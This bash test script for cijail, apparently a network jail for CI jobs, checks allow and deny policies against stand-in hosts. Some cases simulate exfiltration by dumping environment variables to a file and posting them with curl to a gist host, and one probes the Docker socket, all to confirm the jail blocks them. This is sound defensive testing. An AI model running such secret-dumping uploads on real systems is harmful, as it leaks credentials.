#!/usr/bin/env bash
# What the original's README shows of URLs, and what the talk says an attack would do next: upload to a gist, ask the
# container engine. Hosts are stand-ins in the test internet.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"

# What curl's status is for each URL or request of the arguments.
statuses() { for request in "$@"; do curl -s -o /dev/null -w '%{http_code} ' $request; done; }
export -f statuses

t_case 'the transcript: one URL of an API is allowed, and logged with its status'
releases=https://api.github.example/repos/staex-io/cijail/releases
CIJAIL_ENDPOINTS=$releases run cijail -v curl -s $releases
t_status 0
t_match "$out" '^GET 0 '
t_match "$err" "^\\[[A-Z][a-z]{2} [A-Z][a-z]{2} [0-9]{2} [0-9:]{8} [0-9]{4}\\] cijail: allow 200 GET ${releases//./\\.}\$"
CIJAIL_ENDPOINTS=$releases run cijail bash -c "statuses $releases/latest https://api.github.example/repos/staex-io/cijail \
    https://api.github.example/user http://api.github.example/repos/staex-io/cijail/releases"
t_eq "$out" '200 403 403 403 '
t_denials 3

t_case "the README's example of every form, comments included"
cat >readme.policy <<'END2'
https://github.example/    # allow HTTPS packets to/from github.example:443 with a URL starting with "https://github.example/"
1.1.1.1:53             # allow TCP/UDP packets to/from 1.1.1.1:53
one.one.one.one        # allow DNS packets that resolve `one.one.one.one` to IP addresses
@/tmp/unix             # allow packets to/from abstract UNIX socket with path "\0/tmp/unix"
/tmp/unix              # allow packets to/from named UNIX socket with path "/tmp/unix"
[netlink]              # allow packets to/from netlink socket
END2
python3 "$T_SRC/tests/net/sockets.py" /tmp/unix >sockets.out &
sockets=$!
for ((i = 0; i < 200; i++)); do grep -qs ready sockets.out && break; sleep 0.05; done
run cijail -p ./readme.policy -- sh -c "python3 $T_LIB/connect.py unix /tmp/unix 0
    dig @1.1.1.1 one.one.one.one | sed -n 's/.*status: \([A-Z]*\),.*/\1/p'
    git ls-remote https://github.example/staex-io/project.git | wc -l"
t_match "$out" '^connected '
t_match "$out" '^NXDOMAIN$' # allowed, and not in the test internet
t_match "$out" '^2$'
t_denials 0
run cijail -- sh -c "python3 $T_LIB/connect.py unix /tmp/unix 0
    git ls-remote https://github.example/staex-io/project.git"
t_no_match "$out" 'connected|HEAD'
t_match "$err" 'deny unix /tmp/unix'
kill $sockets

t_case 'an upload to a gist is blocked though its site is allowed for reading'
wire_start
run cijail -e 'GET,HEAD:https://github.example/staex-io/ GET,HEAD:https://api.github.example/' -- bash -c '
    env >secrets
    statuses "-d @secrets https://gist.github.example/" "-T secrets https://gist.github.example/raw" \
        "-d @secrets https://api.github.example/gists" "-X PATCH -d @secrets https://api.github.example/gists/1" \
        https://api.github.example/gists "-d @secrets https://github.example/staex-io/project.git/git-receive-pack"'
wire_stop
t_eq "$out" '000 000 403 403 200 403 '
t_match "$err" 'deny - CONNECT gist\.github\.example:443$'
t_match "$err" 'deny - POST https://api\.github\.example/gists$'
t_match "$err" 'deny - PATCH https://api\.github\.example/gists/1$'
t_no_match "$WIRE" 'gist'

t_case 'the twin: a policy with the gist lets it out'
run cijail -e 'POST:https://gist.github.example/' -- bash -c 'echo secret >secrets
    curl -s -d @secrets https://gist.github.example/; statuses "-T secrets https://gist.github.example/raw"'
t_match "$out" '^POST 6 '
t_match "$out" '^403 $'

t_case "the container engine's socket is denied, and is not if the policy names it"
mkdir engine
python3 "$T_SRC/tests/net/sockets.py" engine/podman.sock >engine.out &
engine=$!
for ((i = 0; i < 200; i++)); do grep -qs ready engine.out && break; sleep 0.05; done
run cijail -e 'https://registry.example/' -- sh -c "python3 $T_LIB/connect.py unix /run/docker.sock 0
    curl -s --unix-socket /run/docker.sock http://localhost/containers/json && echo asked
    python3 $T_LIB/connect.py unix $PWD/engine/podman.sock 0"
t_no_match "$out" 'connected|asked'
t_count 2 "$out" '^E[A-Z]+ [0-9]+$'
t_match "$err" "deny unix /run/docker\\.sock( |\$)"
t_match "$err" "deny unix $PWD/engine/podman\\.sock\$"
run cijail -e "/run/docker.sock $PWD/engine/podman.sock" -- sh -c "
    python3 $T_LIB/connect.py unix /run/docker.sock 0; python3 $T_LIB/connect.py unix $PWD/engine/podman.sock 0"
t_count 2 "$out" '^connected '
t_denials 0
kill $engine

t_done
